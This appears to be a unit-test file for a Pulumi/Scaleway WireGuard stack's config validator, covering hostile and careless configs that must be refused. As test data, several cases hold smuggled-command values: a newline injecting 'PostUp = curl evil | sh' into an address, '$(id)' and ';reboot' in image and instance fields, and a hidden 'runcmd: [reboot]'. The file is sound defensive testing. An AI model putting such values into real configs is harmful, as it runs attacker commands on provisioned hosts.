/** @tier unit */
/**
 * Hostile and careless configs: each case is raw stack config, as `pulumi config`
 * would hand it over, that parse + validation must refuse before any resource exists. Every
 * case checks the key named, the problem, and that the fix is runnable: the first
 * `pulumi config set/rm` command in it is applied to the config, and the very issue must be
 * gone afterwards (fixes with a placeholder such as `<value>` are only checked for naming a
 * command). A valid control config passes, so the cases cannot all be failing for one reason.
 */
import { ConfigError, type ConfigIssue } from "./errors";
import { loadStackConfig } from "./validation";
import { DEFAULT_REMOTE_SITES } from "./schema";
import { ed25519Line, rsaLine } from "../testkit/sshKeys";

const ADMIN = ["203.0.113.7/32"];

const KEY_A = ed25519Line();
const KEY_B = ed25519Line("second@laptop");

/** An external office LAN served by its gateway's dnsmasq: valid as given. */
const office = (over: Record<string, unknown> = {}) => ({
  name: "office",
  kind: "external",
  subnet: "192.168.10.0/24",
  gatewayAddress: "192.168.10.2",
  tunnelAddress: "172.16.0.3",
  publicIp: "198.51.100.77",
  routePropagation: "dhcp",
  lanRouter: "192.168.10.1",
  ...over,
});
const staticOffice = (over: Record<string, unknown> = {}) => {
  const site: Record<string, unknown> = office({ routePropagation: "static", ...over });
  if (!("lanRouter" in over)) delete site.lanRouter;
  return site;
};
const onprem = (over: Record<string, unknown> = {}) => ({ ...DEFAULT_REMOTE_SITES[0], ...over });
const withSites = (...sites: Record<string, unknown>[]) => ({ adminCidrs: ADMIN, remoteSites: sites });

interface Case {
  name: string;
  config: Record<string, unknown>;
  key: string;
  problem: RegExp;
}

/** Grouped by the part of the config a case attacks. */
const CASES: Case[] = [
  // --- text reaching a host ------------------------------------------------------------
  {
    name: "a line break smuggled into an address",
    config: withSites(onprem({ gatewayAddress: "192.168.1.2\nPostUp = curl evil | sh" })),
    key: "remoteSites[0].gatewayAddress",
    problem: /line break at position 12/,
  },
  {
    name: "a control character (ESC) in the zone",
    config: { adminCidrs: ADMIN, zone: "fr-par-1\u001b[2J" },
    key: "zone",
    problem: /control character \(U\+001B\)/,
  },
  {
    name: "a Unicode line separator in the image",
    config: { adminCidrs: ADMIN, image: "ubuntu_noble\u2028runcmd: [reboot]" },
    key: "image",
    problem: /line break/,
  },
  {
    name: "a bidi override in the hub's name",
    config: { adminCidrs: ADMIN, scalewaySite: { name: "par\u202eevil" } },
    key: "scalewaySite.name",
    problem: /invisible formatting character \(U\+202E\)/,
  },
  {
    name: "an oversized string",
    config: { adminCidrs: ADMIN, instanceType: `DEV1-${"S".repeat(300)}` },
    key: "instanceType",
    problem: /at most 255/,
  },
  {
    name: "a list longer than 64 entries",
    config: { adminCidrs: Array.from({ length: 65 }, (_, i) => `203.0.113.${i}/32`) },
    key: "adminCidrs",
    problem: /65 entries; at most 64/,
  },
  {
    name: "more than 64 remote sites",
    config: { adminCidrs: ADMIN, remoteSites: Array.from({ length: 65 }, () => onprem()) },
    key: "remoteSites",
    problem: /65 sites; at most 64/,
  },
  {
    name: "a second SSH key after a line break",
    config: { adminCidrs: ADMIN, sshPublicKeys: [`${KEY_A}\n${KEY_B}`] },
    key: "sshPublicKeys[0]",
    problem: /holds 2 lines; each entry must be exactly one public key/,
  },
  {
    name: "an RSA key under 2048 bits",
    config: { adminCidrs: ADMIN, sshPublicKeys: [rsaLine(1024, "old@box")] },
    key: "sshPublicKeys[0]",
    problem: /1024-bit RSA key/,
  },
  {
    name: "the same SSH key twice",
    config: { adminCidrs: ADMIN, sshPublicKeys: [KEY_A, KEY_A.replace("ops@laptop", "again")] },
    key: "sshPublicKeys[1]",
    problem: /same key as sshPublicKeys\[0\]/,
  },
  {
    name: "an SSH key line of unbounded size",
    config: { adminCidrs: ADMIN, sshPublicKeys: [`${KEY_A}${"x".repeat(5000)}`] },
    key: "sshPublicKeys[0]",
    problem: /at most 4096/,
  },
  {
    name: "a control character in an SSH key's comment",
    config: { adminCidrs: ADMIN, sshPublicKeys: [ed25519Line("ops\u0007@laptop")] },
    key: "sshPublicKeys[0]",
    problem: /control character \(U\+0007\)/,
  },
  {
    name: "an instance type carrying shell syntax",
    config: { adminCidrs: ADMIN, instanceType: "DEV1-S;reboot" },
    key: "instanceType",
    problem: /not a Scaleway instance type/,
  },
  {
    name: "an image carrying shell syntax",
    config: { adminCidrs: ADMIN, image: "ubuntu_noble$(id)" },
    key: "image",
    problem: /not a Scaleway image/,
  },
  // --- ports ---------------------------------------------------------------------------
  {
    name: "WireGuard on DNS's port",
    config: { adminCidrs: ADMIN, listenPort: 53 },
    key: "listenPort",
    problem: /is 53, the UDP port of DNS/,
  },
  {
    name: "WireGuard on the DHCP server's port where dnsmasq runs",
    config: { ...withSites(onprem(), office()), listenPort: 67 },
    key: "listenPort",
    problem: /is 67, the UDP port of the DHCP server/,
  },
  {
    name: "WireGuard on the DHCP client's port",
    config: { adminCidrs: ADMIN, listenPort: 68 },
    key: "listenPort",
    problem: /is 68, the UDP port of the gateways' own DHCP client/,
  },
  // --- Scaleway private networks -------------------------------------------------------
  {
    name: "a hub subnet larger than Scaleway's /20",
    config: { adminCidrs: ADMIN, scalewaySite: { subnet: "192.168.0.0/16" } },
    key: "scalewaySite.subnet",
    problem: /from \/20 to \/29 only/,
  },
  {
    name: "a simulated site's subnet larger than /20",
    config: withSites(onprem({ subnet: "172.20.0.0/19", gatewayAddress: "172.20.0.2", testHostAddress: "172.20.0.3" })),
    key: "remoteSites[0].subnet",
    problem: /from \/20 to \/29 only/,
  },
  // --- external subnets ----------------------------------------------------------------
  {
    name: "an external subnet swallowing the peer's own endpoint",
    config: withSites(
      staticOffice({ subnet: "198.51.100.0/24", gatewayAddress: "198.51.100.2", publicIp: "198.51.100.77" }),
    ),
    key: "remoteSites[0].subnet",
    problem: /contains this site's own publicIp 198\.51\.100\.77/,
  },
  {
    name: "an external subnet swallowing an admin CIDR",
    config: withSites(staticOffice({ subnet: "203.0.113.0/24", gatewayAddress: "203.0.113.2" })),
    key: "remoteSites[0].subnet",
    problem: /overlaps adminCidrs\[0\]/,
  },
  {
    name: "an external subnet spanning a /6",
    config: withSites(staticOffice({ subnet: "64.0.0.0/6", gatewayAddress: "64.0.0.2" })),
    key: "remoteSites[0].subnet",
    problem: /spans 67,108,864 addresses/,
  },
  {
    name: "an external subnet over Scaleway's link-local metadata range",
    config: withSites(staticOffice({ subnet: "169.254.0.0/16", gatewayAddress: "169.254.0.2" })),
    key: "remoteSites[0].subnet",
    problem: /overlaps 169\.254\.0\.0\/16/,
  },
  {
    name: "an implausibly wide public external subnet",
    config: withSites(staticOffice({ subnet: "44.0.0.0/12", gatewayAddress: "44.0.0.2" })),
    key: "remoteSites[0].subnet",
    problem: /public range of 1,048,576 addresses/,
  },
  {
    name: "an external static LAN of a /31",
    config: withSites(staticOffice({ subnet: "192.168.10.0/31", gatewayAddress: "192.168.10.0" })),
    key: "remoteSites[0].subnet",
    problem: /no room for a LAN/,
  },
  {
    name: "a dhcp LAN smaller than a /28",
    config: withSites(office({ subnet: "192.168.10.0/29", lanRouter: "192.168.10.1" })),
    key: "remoteSites[0].subnet",
    problem: /too small for a LAN whose DHCP the gateway serves/,
  },
  // --- admin CIDRs ---------------------------------------------------------------------
  {
    name: "admin CIDRs that together open SSH to two /8s",
    config: { adminCidrs: ["11.0.0.0/8", "12.0.0.0/8"] },
    key: "adminCidrs",
    problem: /together admits 33,554,432 addresses/,
  },
  {
    name: "an admin CIDR no internet client comes from",
    config: { adminCidrs: ["192.168.1.0/24"] },
    key: "adminCidrs[0]",
    problem: /overlaps 192\.168\.0\.0\/16 \(private/,
  },
  // --- dhcp LANs -----------------------------------------------------------------------
  {
    name: "a dhcp LAN without lanRouter (hosts would lose their default route)",
    config: withSites(office({ lanRouter: undefined })),
    key: "remoteSites[0].lanRouter",
    problem: /loses its default route/,
  },
  {
    name: "isolatedLan and lanRouter together",
    config: withSites(office({ isolatedLan: true })),
    key: "remoteSites[0].isolatedLan",
    problem: /isolated LAN has no router/,
  },
  {
    name: "the test host at the LAN router's address",
    config: withSites(office({ testHostAddress: "192.168.10.1" })),
    key: "remoteSites[0].testHostAddress",
    problem: /the LAN router/,
  },
  {
    name: "four DNS servers",
    config: withSites(office({ dnsServers: ["9.9.9.9", "1.1.1.1", "8.8.8.8", "8.8.4.4"] })),
    key: "remoteSites[0].dnsServers",
    problem: /at most 3 nameservers/,
  },
  {
    name: "a DNS server given by name",
    config: withSites(office({ dnsServers: ["dns.quad9.net"] })),
    key: "remoteSites[0].dnsServers[0]",
    problem: /option 6 carries IPv4 addresses only/,
  },
  {
    name: "the gateway as DNS server (it runs none)",
    config: withSites(office({ dnsServers: ["192.168.10.2"] })),
    key: "remoteSites[0].dnsServers[0]",
    problem: /runs no DNS service/,
  },
  {
    name: "a loopback DNS server",
    config: withSites(office({ dnsServers: ["127.0.0.53"] })),
    key: "remoteSites[0].dnsServers[0]",
    problem: /cannot be a DNS server for LAN hosts/,
  },
  {
    name: "the LAN's broadcast address as DNS server",
    config: withSites(office({ dnsServers: ["192.168.10.255"] })),
    key: "remoteSites[0].dnsServers[0]",
    problem: /network or broadcast address/,
  },
  {
    name: "a fixed host outside the LAN",
    config: withSites(office({ fixedHosts: ["192.168.11.5"] })),
    key: "remoteSites[0].fixedHosts[0]",
    problem: /outside remoteSites\[0\]\.subnet/,
  },
  {
    name: "a fixed host at the network address",
    config: withSites(office({ fixedHosts: ["192.168.10.0"] })),
    key: "remoteSites[0].fixedHosts[0]",
    problem: /network address/,
  },
  {
    name: "fixed hosts leaving no room for a pool",
    config: withSites(
      office({
        subnet: "192.168.10.0/28",
        fixedHosts: ["192.168.10.4", "192.168.10.7", "192.168.10.10", "192.168.10.13"],
      }),
    ),
    key: "remoteSites[0].fixedHosts",
    problem: /contiguous free address\(es\) for the DHCP pool/,
  },
  {
    name: "DHCP settings on a static site",
    config: withSites(staticOffice({ dnsServers: ["9.9.9.9"] })),
    key: "remoteSites[0].dnsServers",
    problem: /routePropagation is static/,
  },
  // --- external-site flags -------------------------------------------------------------
  {
    name: "bundleInstalled on a simulated site",
    config: withSites(onprem({ bundleInstalled: true })),
    key: "remoteSites[0].bundleInstalled",
    problem: /no operator bundle/,
  },
  {
    name: "bundleSshKeys on a simulated site",
    config: withSites(onprem({ bundleSshKeys: true })),
    key: "remoteSites[0].bundleSshKeys",
    problem: /no operator bundle/,
  },
  {
    name: "bundleSshKeys with no key of the user's own",
    config: withSites(staticOffice({ bundleSshKeys: true })),
    key: "remoteSites[0].bundleSshKeys",
    problem: /never installs the stack's deploy key/,
  },
];

function issuesOf(config: Record<string, unknown>): ConfigIssue[] {
  try {
    loadStackConfig(config);
    return [];
  } catch (err) {
    if (err instanceof ConfigError) return err.issues;
    throw err;
  }
}

/** `pulumi config set [--path] 'k' v` / `pulumi config rm [--path] 'k'` applied to raw config. */
function applyCommand(config: Record<string, unknown>, command: string): Record<string, unknown> {
  const m = command.match(/^pulumi config (set|rm)(?: --path)? '?([^' ]+)'?(?: (.*))?$/);
  if (!m) throw new Error(`not a pulumi config command: ${command}`);
  const [, verb, key, rawValue] = m;
  const next = JSON.parse(JSON.stringify(config)) as Record<string, unknown>;
  const path = key.match(/[^.[\]]+/g)!.map((p) => (/^\d+$/.test(p) ? Number(p) : p));
  let at: any = next;
  for (const p of path.slice(0, -1)) {
    at[p] ??= typeof path[path.indexOf(p) + 1] === "number" ? [] : {};
    at = at[p];
  }
  const last = path[path.length - 1];
  if (verb === "rm") {
    if (Array.isArray(at) && typeof last === "number") at.splice(last, at.length - last);
    else delete at[last];
  } else {
    at[last] = rawValue!.replace(/^'(.*)'$/, "$1").replace(/^"(.*)"$/, "$1");
  }
  return next;
}

describe("hostile configs are refused with the key and a runnable fix", () => {
  test("the control config is valid", () => {
    expect(issuesOf(withSites(onprem(), office()))).toEqual([]);
    expect(issuesOf({ adminCidrs: ADMIN, sshPublicKeys: [KEY_A, KEY_B, rsaLine(2048, "old@box")] })).toEqual([]);
  });

  test(`${CASES.length} cases, each on its own key`, () => {
    expect(CASES.length).toBeGreaterThanOrEqual(30);
    expect(new Set(CASES.map((c) => c.name)).size).toBe(CASES.length);
  });

  test.each(CASES)("$name", ({ config, key, problem }) => {
    const issues = issuesOf(JSON.parse(JSON.stringify(config)));
    const hit = issues.find((i) => i.key === key && problem.test(i.problem));
    if (!hit) throw new Error(`no issue on ${key} matching ${problem}; got:\n${JSON.stringify(issues, null, 1)}`);
    const command = hit.fix.match(/`(pulumi config [^`]+)`/)?.[1];
    expect(command).toBeDefined();
    if (/<[^>]+>|\$\(/.test(command!)) return; // a placeholder the user fills in
    const fixed = applyCommand(JSON.parse(JSON.stringify(config)), command!);
    const after = issuesOf(fixed);
    expect(after.filter((i) => i.key === key && i.problem === hit.problem)).toEqual([]);
  });

  test("no issue echoes a value that carried a line break", () => {
    const issues = issuesOf(withSites(onprem({ gatewayAddress: "192.168.1.2\nPostUp = curl evil | sh" })));
    expect(JSON.stringify(issues)).not.toContain("curl evil");
  });
});
